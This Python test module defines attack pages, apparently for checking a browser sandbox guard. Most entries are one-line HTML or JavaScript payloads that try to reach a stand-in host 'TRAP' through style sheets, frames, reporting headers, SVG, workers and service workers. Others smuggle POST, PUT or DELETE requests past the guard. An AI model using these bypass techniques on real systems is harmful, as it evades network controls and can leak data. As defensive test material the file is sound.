# ruff: noqa: E501 - pages of attacks are one line each
"""Attacks that were thought up after the guard was built, without another look at its code."""

from __future__ import annotations

from .attack import Attack, loaded, plain, pressed
from .hostile import Answer

JS, W = "text/javascript", "fetch('/NAME/w', {method: 'POST', body: 'x'}).catch(() => 0)"

EGRESS: tuple[Attack, ...] = (
    pressed("adopted_style_sheet", "const s = new CSSStyleSheet; s.replaceSync('body { background: url(http://TRAP/a) } @font-face"
            " { font-family: q; src: url(http://TRAP/f) } body { font-family: q }'); document.adoptedStyleSheets = [s]; document.body.append('q');"
            " await new Promise(r => setTimeout(r, 600))"),
    pressed("frame_that_is_moved", "const f = document.createElement('iframe'); f.src = 'about:blank'; document.body.append(f);"
            "f.contentWindow.location.replace('http://TRAP/l'); const g = open('about:blank', 'n'); g.location.href = 'http://TRAP/p';"
            "await new Promise(r => setTimeout(r, 600))"),
    plain("page_of_an_inner_base", "<iframe srcdoc=\"<base href='http://TRAP/'><img src=a><link rel=stylesheet href=b><form action=c></form>"
          "<script>document.forms[0].submit()</script>\"></iframe>"),
    pressed("paint_worklet_and_view_transition", "CSS.paintWorklet?.addModule('http://TRAP/w').catch(() => 0); try { navigation.navigate('http://TRAP/n') } catch {}"),
    plain("alternate_service", "<img src=page>", files={"page": Answer(b"ok", "image/png", headers=(
        ("Alt-Svc", 'h3="TRAP"; ma=99, h2="TRAP"; ma=99'), ("NEL", '{"report_to":"t","max_age":99,"success_fraction":1}'),
        ("Report-To", '{"group":"t","max_age":99,"endpoints":[{"url":"http://TRAP/r"}]}'), ("Content-Location", "http://TRAP/c")))}),
    plain("embedder_reports", "<p>x<iframe src=page></iframe>", headers=(
        ("Reporting-Endpoints", 'e="http://TRAP/e"'), ("Cross-Origin-Embedder-Policy-Report-Only", 'require-corp; report-to="e"'),
        ("Cross-Origin-Opener-Policy-Report-Only", 'same-origin; report-to="e"'), ("Permissions-Policy-Report-Only", 'geolocation=();report-to=e'),
        ("Document-Policy", "include-js-call-stacks-in-crash-reports"), ("Integrity-Policy-Report-Only", "blocked-destinations=(script), endpoints=(e)")),
        files={"page": Answer(b"<script src='http://TRAP/s'></script>")}),
    pressed("parts_of_a_video_by_media_source", "const v = document.createElement('video'); v.innerHTML = '<source src=http://TRAP/v type=video/mp4>"
            "<track default kind=captions src=http://TRAP/t>'; v.crossOrigin = ''; v.textTracks; document.body.append(v); v.load(); v.play().catch(() => 0);"
            "new Audio('http://TRAP/a').play().catch(() => 0); await new Promise(r => setTimeout(r, 500))"),
    pressed("cookie_store_and_storage_access", "document.requestStorageAccessFor?.('http://TRAP').catch(() => 0); navigator.login?.setStatus('logged-in');"
            "await caches.open('a').then(c => c.addAll(['http://TRAP/c'])).catch(() => 0); navigator.serviceWorker?.register('http://TRAP/sw').catch(() => 0)"),
    pressed("svg_filter_and_pattern", "document.body.insertAdjacentHTML('beforeend', `<svg><filter id=f><feImage href='http://TRAP/i' /></filter>"
            "<use href='http://TRAP/u#a' /><image href='http://TRAP/m' /><rect width=9 height=9 filter='url(#f)' fill='url(http://TRAP/p#x)' />"
            "<animate href='#f' attributeName=href values='http://TRAP/q' /><script href='http://TRAP/s'></` + `script></svg>`)"),
    plain("object_in_an_object", "<object data='http://TRAP/o'><object type=text/html data='//TRAP/oo'><embed src='http://TRAP/e'></object></object>"
          "<applet code=x archive='http://TRAP/j'></applet><frameset><frame src='http://TRAP/f'></frameset>"),
    pressed("worker_with_a_broken_type", "const b = URL.createObjectURL(new Blob([`importScripts('http://TRAP/i')`], {type: 'application/pdf'}));"
            "new Worker(b); new Worker(b, {type: 'module'}); new SharedWorker(b, {name: 'q'}); new Worker('data:;base64,' + btoa(\"fetch('http://TRAP/d')\"))"),
    pressed("message_to_a_frame_that_fetches", "const f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-popups allow-forms';"
            "f.srcdoc = `<script>onmessage = e => { fetch(e.data, {mode: 'no-cors'}).catch(() => 0); open(e.data); location = e.data }</` + `script>`;"
            "document.body.append(f); f.onload = () => f.contentWindow.postMessage('http://TRAP/m', '*'); await new Promise(r => setTimeout(r, 800))"),
)  # fmt: skip

WRITES: tuple[Attack, ...] = (
    loaded("odd_methods", "for (const m of ['patch', 'Delete', 'PROPPATCH', 'MKCOL', 'COPY', 'QUERY', 'PURGE', 'LINK']) fetch('/NAME/w', {method: m}).catch(() => 0)"),
    loaded("request_object_that_changes", "const r = new Request('/NAME/w', {method: 'PUT', body: 'x'}); fetch(r.clone()).catch(() => 0); fetch('/NAME/v', r).catch(() => 0);"
           "fetch(new Request(r, {method: 'DELETE'})).catch(() => 0)"),
    loaded("form_in_a_template", "const t = document.createElement('template'); t.innerHTML = '<form method=post action=/NAME/w><input name=a></form>';"
           "document.body.append(t.content.cloneNode(true)); document.forms[0].requestSubmit()"),
    Attack("button_that_swaps_its_form", "<form id=f action=/NAME/w method=get><input name=a value=1></form><button form=f onpointerdown=\"f.method = 'post'\">Look</button>",
           acts=("click [Look]",)),
    Attack("link_that_becomes_a_form", "<a href=/NAME/r onclick=\"event.preventDefault(); const f = document.createElement('form'); f.method = 'post';"
           "f.action = '/NAME/w'; document.body.append(f); HTMLFormElement.prototype.submit.call(f)\">Read more</a>", acts=("click [Read more]",)),
    plain("post_of_a_frame_in_another_tab", "<script>const w = open('/NAME/page', 'x'); const f = document.createElement('iframe'); f.src = '/NAME/page'; document.body.append(f)</script>",
          files={"page": Answer(f"<script>{W}; new BroadcastChannel('c').postMessage(1); new BroadcastChannel('c').onmessage = () => {W}</script>".encode())}),
    pressed("post_through_a_navigation", "navigation.addEventListener('navigate', e => e.intercept?.({handler: () => " + W + "})); history.pushState(0, '', '#a'); location.hash = 'b';"
            "navigation.navigate('/NAME/?q', {history: 'push'})"),
    loaded("post_after_a_lock_and_a_message", "navigator.locks.request('l', async () => { const c = new MessageChannel; c.port1.onmessage = () => " + W + "; c.port2.postMessage(0);"
           "await new Promise(r => setTimeout(r, 100)); scheduler.postTask(() => " + W + ") })"),
)  # fmt: skip
